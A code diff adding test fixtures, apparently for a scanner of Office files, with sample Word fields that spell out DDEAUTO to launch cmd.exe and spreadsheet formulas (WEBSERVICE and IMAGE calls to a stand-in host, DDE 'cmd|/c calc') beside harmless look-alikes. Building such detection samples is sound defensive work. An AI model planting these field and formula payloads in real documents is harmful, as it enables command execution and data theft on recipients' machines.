@@ -286,6 +286,42 @@ def passed_a_second_time() -> list[tuple[str, bytes]]:
     ]
 
 
+def _nested(name: bytes, inner: bytes, after: bytes) -> bytes:
+    """A field with another one inside its code."""
+    step = b'<w:fldChar w:fldCharType="%s"/>'
+    code = b"<w:instrText>%s</w:instrText>"
+    parts = (step % b"begin", code % name, step % b"begin", code % inner, step % b"end", code % after, step % b"end")
+    return s.office(word__document_DOT_xml=b'<w:document xmlns:w="%s">%s</w:document>' % (WORD, b"".join(parts)))
+
+
+def _formula(code: bytes, around: bytes = b"<c><f>%s</f></c>") -> bytes:
+    return s.office("xlsx", xl__worksheets__sheet1_DOT_xml=b"<worksheet>" + around % code + b"</worksheet>")
+
+
+def put_together() -> list[tuple[str, bytes]]:
+    """Fields whose name another field spells, and formulas that fetch or start something."""
+    return [
+        ("a.docx", _nested(b" ", b"QUOTE 68 68 69 65 85 84 79", b' c:\\cmd.exe "/k calc"')),
+        ("a.docx", _nested(b"DD", b"QUOTE 69 65 85 84 79", b" c:\\cmd.exe")),
+        ("a.docx", _nested(b" INCLUDEPICTURE ", b"QUOTE 104 116 116 112", b" ")),
+        ("a.xlsx", _formula(b'_xlfn.WEBSERVICE("http://e.test/"&amp;A2)')),
+        ("a.xlsx", _formula(b'_xlfn.IMAGE ("http://e.test/a.png")')),
+        ("a.xlsx", _formula(b"cmd|'/c calc'!A0")),
+        ("a.xlsx", _formula(b"cmd&#124;'/c calc'!A0")),
+        ("a.xlsx", _formula(b"WEBSERVICE(A1)", b"<definedName>%s</definedName>")),
+    ]
+
+
+def harmless_codes() -> list[tuple[str, bytes]]:
+    """What looks a little like it, and is what people write."""
+    return [
+        ("a.docx", _nested(b" IF ", b"MERGEFIELD a", b' = "1" "yes" "no" ')),
+        ("a.docx", _nested(b"=", b"PAGE", b"+1")),
+        ("a.xlsx", _formula(b"'Call (2)'!A1 &amp; &quot;a|b!c&quot;")),
+        ("a.xlsx", _formula(b"cmd|'/c calc'!A0", b"<c><is><t>%s</t></is></c>")),
+    ]
+
+
 def costly() -> Iterator[tuple[str, bytes]]:
     """Small files that made a request work for seconds: archives in archives, streams in streams, endless escapes."""
     inner = s.office("xlsx", **{f"xl__a{number}_DOT_xml": b"" for number in range(1500)})
